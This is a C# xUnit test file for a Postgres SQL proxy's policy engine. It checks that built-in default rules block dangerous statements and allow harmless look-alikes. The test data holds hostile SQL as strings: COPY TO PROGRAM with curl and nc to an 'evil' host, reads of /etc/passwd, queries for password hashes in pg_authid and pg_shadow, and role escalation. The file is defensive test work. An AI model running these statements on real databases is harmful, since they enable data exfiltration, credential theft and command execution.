using OrleansGate.Grains.Policy;
using OrleansGate.Grains.Statements;
using OrleansGate.Proxy.Sql;
using Xunit;

namespace OrleansGate.Tests.Grains.Policy;

/// <summary>
/// The built-in rules, statement by statement, through the real parser and the policy engine with
/// no configured rules: what each blocks, and look-alikes it must let through.
/// </summary>
public sealed class SafeDefaultsTable
{
    private static readonly SqlParser Parser = new(cacheEntries: 0);
    private static readonly SessionSubject Alice = new("alice", ["analysts"], "main");

    public static TheoryData<string, string> Statements => new()
    {
        { "COPY t TO PROGRAM 'curl -d @- http://evil'", "default:copy-program" },
        { "COPY t FROM PROGRAM 'id'", "default:copy-program" },
        { "copy (select * from customers) to program 'nc evil 80'", "default:copy-program" },
        { "COPY t TO '/tmp/loot.csv'", "default:copy-server-file" },
        { "COPY t FROM '/etc/passwd'", "default:copy-server-file" },
        { "SELECT pg_read_file('/etc/passwd')", "default:server-file-functions" },
        { "SELECT pg_catalog.pg_read_binary_file('global/pg_control')", "default:server-file-functions" },
        { "SELECT * FROM pg_ls_dir('.')", "default:server-file-functions" },
        { "SELECT pg_stat_file('postgresql.conf')", "default:server-file-functions" },
        { "WITH f AS (SELECT pg_read_file('x')) SELECT * FROM f", "default:server-file-functions" },
        { "SELECT lo_import('/etc/passwd')", "default:large-objects" },
        { "SELECT lo_export(1234, '/tmp/x')", "default:large-objects" },
        { "SELECT lo_get(1234)", "default:large-objects" },
        { "SELECT lo_from_bytea(0, 'x')", "default:large-objects" },
        { "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)", "default:dblink" },
        { "SELECT dblink_connect('host=evil')", "default:dblink" },
        { "SELECT query_to_xml('SELECT * FROM customers', true, true, '')", "default:sql-in-text" },
        { "SELECT table_to_xml('customers', true, true, '')", "default:sql-in-text" },
        { "SELECT cursor_to_xml('c', 10, true, true, '')", "default:sql-in-text" },
        { "SELECT database_to_xml(true, true, '')", "default:sql-in-text" },
        { "SET ROLE postgres", "default:role-switch" },
        { "SET LOCAL ROLE postgres", "default:role-switch" },
        { "SET SESSION AUTHORIZATION postgres", "default:role-switch" },
        { "RESET ROLE", "default:role-switch" },
        { "RESET SESSION AUTHORIZATION", "default:role-switch" },
        { "SELECT set_config('role', 'postgres', false)", "default:role-switch" },
        { "SELECT set_config('session_authorization', 'postgres', true)", "default:role-switch" },
        { "SELECT set_config(lower('ROLE'), 'postgres', false)", "default:role-switch" },
        { "ALTER SYSTEM SET archive_command = 'curl evil'", "default:alter-system" },
        { "ALTER SYSTEM RESET ALL", "default:alter-system" },
        { "DO $$ BEGIN PERFORM 1; END $$", "default:do-block" },
        { "SELEC * FROM customers", "default:unparseable" },
        { "SELECT 1; SELEC 2", "default:unparseable" },
        { "SELECT 1" + string.Concat(Enumerable.Repeat("+1", 2_000)), "default:too-complex" },
        { "SET client_encoding = 'SJIS'", "default:client-encoding" },
        { "SET client_encoding TO 'LATIN1'", "default:client-encoding" },
        { "SET NAMES 'SJIS'", "default:client-encoding" },
        { "SELECT set_config('client_encoding', 'BIG5', false)", "default:client-encoding" },
        { "SET standard_conforming_strings = off", "default:string-syntax" },
        { "SET standard_conforming_strings TO false", "default:string-syntax" },
        { "SELECT set_config('standard_conforming_strings', 'off', false)", "default:string-syntax" },
        { "SELECT set_config('role', 'admin', false), set_config('application_name', 'x', false)", "default:role-switch" },
        { "SELECT set_config('application_name', 'x', false), set_config('standard_conforming_strings', 'off', false)", "default:string-syntax" },
        { "SELECT set_config('application_name', 'x', false)", "default:application-name" },
        { "SELECT set_config('application_name', 'x', true), pg_sleep(10)", "default:application-name" },
        { "ALTER ROLE CURRENT_USER SET application_name = 'x'", "default:application-name" },
        { "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET application_name = 'x' RETURN 1", "default:application-name" },
        { "ALTER ROLE CURRENT_USER SET standard_conforming_strings = off", "default:string-syntax" },
        { "ALTER ROLE CURRENT_USER SET client_encoding = 'SJIS'", "default:client-encoding" },
        { "ALTER ROLE CURRENT_USER SET role = 'admin'", "default:role-switch" },
        { "ALTER DATABASE shop SET role = 'admin'", "default:role-switch" },
        { "CREATE FUNCTION f() RETURNS void LANGUAGE sql SET role = 'admin' BEGIN ATOMIC SELECT 1; END", "default:role-switch" },
        { "CREATE FUNCTION f() RETURNS text LANGUAGE sql AS 'SELECT pg_read_file(''/etc/passwd'')'", "default:function-body" },
        { "CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN SET ROLE admin; END $$", "default:function-body" },
        { "SELECT * FROM ts_stat('SELECT to_tsvector(''simple'', num) FROM billing.cards')", "default:sql-in-text" },
        { "SELECT postgres.pg_catalog.pg_read_file('x')", "default:server-file-functions" },
        { "SET backslash_quote = on", "default:backslash-quote" },
        { "SELECT set_config('backslash_quote', 'on', false)", "default:backslash-quote" },
        { "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'", "default:settings-catalog" },
        { "UPDATE pg_catalog.pg_settings SET setting = 'x' WHERE name = 'application_name'", "default:settings-catalog" },
        { "LOAD 'auto_explain'", "default:load" },
        { "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "default:server-state" },
        { "SELECT pg_cancel_backend(123)", "default:server-state" },
        { "SELECT pg_reload_conf()", "default:server-state" },
        { "SELECT pg_create_logical_replication_slot('s', 'test_decoding')", "default:server-state" },
        { "SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)", "default:server-state" },
        { "SELECT pg_replication_origin_create('o')", "default:server-state" },
        { "SELECT pg_import_system_collations('public')", "default:server-state" },
        { "SELECT pg_switch_wal()", "default:server-state" },
        { "SELECT binary_upgrade_set_next_pg_authid_oid(1)", "default:server-state" },
        { "SELECT rolname, rolpassword FROM pg_authid", "default:secret-catalogs" },
        { "SELECT * FROM pg_catalog.pg_shadow", "default:secret-catalogs" },
        { "SELECT * FROM pg_hba_file_rules", "default:secret-catalogs" },
        { "SELECT * FROM pg_file_settings", "default:secret-catalogs" },
        { "SELECT * FROM pg_show_all_file_settings()", "default:secret-catalogs" },
        { "SELECT umoptions FROM pg_user_mappings", "default:secret-catalogs" },
        { "SELECT subconninfo FROM pg_subscription", "default:secret-catalogs" },
        { "SELECT chunk_data FROM pg_toast.pg_toast_16400", "default:internal-storage" },
        { "SELECT * FROM pg_toast_16400", "default:internal-storage" },
        { "SELECT data FROM pg_largeobject", "default:internal-storage" },
        { "SELECT get_raw_page('customers', 0)", "default:internal-storage" },
        { "SELECT * FROM heap_page_items(get_raw_page('customers', 0))", "default:internal-storage" },
        { "SELECT query FROM pg_stat_statements", "default:other-sessions-statements" },
        { "SELECT * FROM pg_stat_get_activity(NULL)", "default:other-sessions-statements" },
        { "SELECT pg_stat_get_backend_activity(s) FROM pg_stat_get_backend_idset() AS s", "default:other-sessions-statements" },
        // Look-alikes the defaults must not block.
        { "SET backslash_quote TO DEFAULT", PolicyEngine.NoRuleMatched },
        { "RESET backslash_quote", PolicyEngine.NoRuleMatched },
        { "SELECT rolname FROM pg_roles", PolicyEngine.NoRuleMatched },
        { "SELECT pid, state, query FROM pg_stat_activity", PolicyEngine.NoRuleMatched },
        { "SELECT name, setting FROM pg_settings", PolicyEngine.NoRuleMatched },
        { "SELECT loid FROM pg_largeobject_metadata", PolicyEngine.NoRuleMatched },
        { "SELECT pg_backend_pid()", PolicyEngine.NoRuleMatched },
        { "CREATE FUNCTION add1(i int) RETURNS int LANGUAGE sql RETURN i + 1", PolicyEngine.NoRuleMatched },
        { "SET standard_conforming_strings = on", PolicyEngine.NoRuleMatched },
        { "RESET client_encoding", PolicyEngine.NoRuleMatched },
        { "SELECT 'pg_read_file(''/etc/passwd'')'", PolicyEngine.NoRuleMatched },
        { "SELECT * FROM customers WHERE name = 'COPY t TO PROGRAM'", PolicyEngine.NoRuleMatched },
        { "COPY customers TO STDOUT", PolicyEngine.NoRuleMatched },
        { "COPY customers FROM STDIN", PolicyEngine.NoRuleMatched },
        { "SET search_path = public", PolicyEngine.NoRuleMatched },
        { "SELECT set_config('search_path', 'public', false)", PolicyEngine.NoRuleMatched },
        { "SET client_encoding = 'UTF8'", PolicyEngine.NoRuleMatched },
        { "RESET ALL", PolicyEngine.NoRuleMatched },
        { "SET application_name = 'x'", PolicyEngine.NoRuleMatched },
        { "SET LOCAL application_name TO 'x'", PolicyEngine.NoRuleMatched },
        { "RESET application_name", PolicyEngine.NoRuleMatched },
        { "SELECT xmlelement(name a, 'x')", PolicyEngine.NoRuleMatched },
        { "SELECT current_user", PolicyEngine.NoRuleMatched },
    };

    [Theory]
    [MemberData(nameof(Statements))]
    public void Each_statement_is_decided_by_the_expected_rule(string sql, string rule)
    {
        var decisions = Parser.Parse(sql).Select(s => PolicyEngine.Decide(s, Alice, policy: null)).ToList();

        var decided = decisions.FirstOrDefault(d => d.Action != PolicyAction.Allow) ?? decisions[0];
        Assert.Equal(rule, decided.Rule);
        Assert.Equal(rule == PolicyEngine.NoRuleMatched ? PolicyAction.Allow : PolicyAction.Block, decided.Action);
    }

    [Fact]
    public void The_function_call_message_is_blocked_by_default()
    {
        var call = new StatementInfo { Kind = StatementKind.FunctionCall, Kinds = [StatementKind.FunctionCall], Sql = "-- oid 764" };

        Assert.Equal("default:function-call-message", PolicyEngine.Decide(call, Alice, null).Rule);
    }

    [Fact]
    public void Every_built_in_rule_is_in_the_table()
    {
        var covered = Statements.Select(row => (string)row[1]).ToHashSet();
        covered.Add("default:function-call-message");

        var missing = SafeDefaults.All.Select(d => d.RuleName).Except(covered).ToList();
        Assert.True(missing.Count == 0, "not in the table: " + string.Join(", ", missing));
    }

    [Fact]
    public void An_allow_rule_lifts_only_the_defaults_it_names_and_only_where_it_matches()
    {
        var policy = new PolicyOptions
        {
            Name = "p",
            Rules = [new RuleOptions { Name = "ops-read-files", Groups = ["ops"], Action = PolicyAction.Allow, Overrides = ["server-file-functions"] }],
        };
        var readFile = Assert.Single(Parser.Parse("SELECT pg_read_file('x')"));
        var doBlock = Assert.Single(Parser.Parse("DO $$ BEGIN END $$"));
        var ops = new SessionSubject("olga", ["ops"], "main");

        Assert.Equal(PolicyAction.Allow, PolicyEngine.Decide(readFile, ops, policy).Action);
        Assert.Equal("default:do-block", PolicyEngine.Decide(doBlock, ops, policy).Rule);
        Assert.Equal("default:server-file-functions", PolicyEngine.Decide(readFile, Alice, policy).Rule);
    }

    [Fact]
    public void A_rule_naming_functions_lifts_a_default_only_for_those_functions()
    {
        var policy = new PolicyOptions
        {
            Name = "p",
            Rules = [new RuleOptions { Name = "lo-get-only", Functions = ["lo_get"], Action = PolicyAction.Allow, Overrides = ["large-objects"] }],
        };

        Assert.Equal(PolicyAction.Allow, PolicyEngine.Decide(Assert.Single(Parser.Parse("SELECT lo_get(1)")), Alice, policy).Action);
        Assert.Equal("default:large-objects",
            PolicyEngine.Decide(Assert.Single(Parser.Parse("SELECT lo_get(1), lo_export(1, '/tmp/x')")), Alice, policy).Rule);
    }

    [Fact]
    public void The_first_matching_rule_decides()
    {
        var policy = new PolicyOptions
        {
            Name = "p",
            Rules =
            [
                new RuleOptions { Name = "bob-may-delete", Groups = ["approvers"], Kinds = [StatementKind.Delete], Action = PolicyAction.Allow },
                new RuleOptions { Name = "no-deletes", Kinds = [StatementKind.Delete], Action = PolicyAction.Block },
                new RuleOptions { Name = "orders-only-for-approvers", Relations = ["public.orders"], Action = PolicyAction.Block },
            ],
        };
        var bob = new SessionSubject("bob", ["approvers"], "main");
        var delete = Assert.Single(Parser.Parse("DELETE FROM customers"));
        var orders = Assert.Single(Parser.Parse("SELECT * FROM orders"));

        Assert.Equal("bob-may-delete", PolicyEngine.Decide(delete, bob, policy).Rule);
        Assert.Equal("no-deletes", PolicyEngine.Decide(delete, Alice, policy).Rule);
        // An unqualified name may resolve to public.orders, so the rule matches it (fail closed).
        Assert.Equal("orders-only-for-approvers", PolicyEngine.Decide(orders, Alice, policy).Rule);
        // A catalog part can only be the current database; it does not hide the table from the rule.
        var withCatalog = Assert.Single(Parser.Parse("SELECT * FROM shop.public.orders"));
        Assert.Equal("orders-only-for-approvers", PolicyEngine.Decide(withCatalog, Alice, policy).Rule);
    }
}
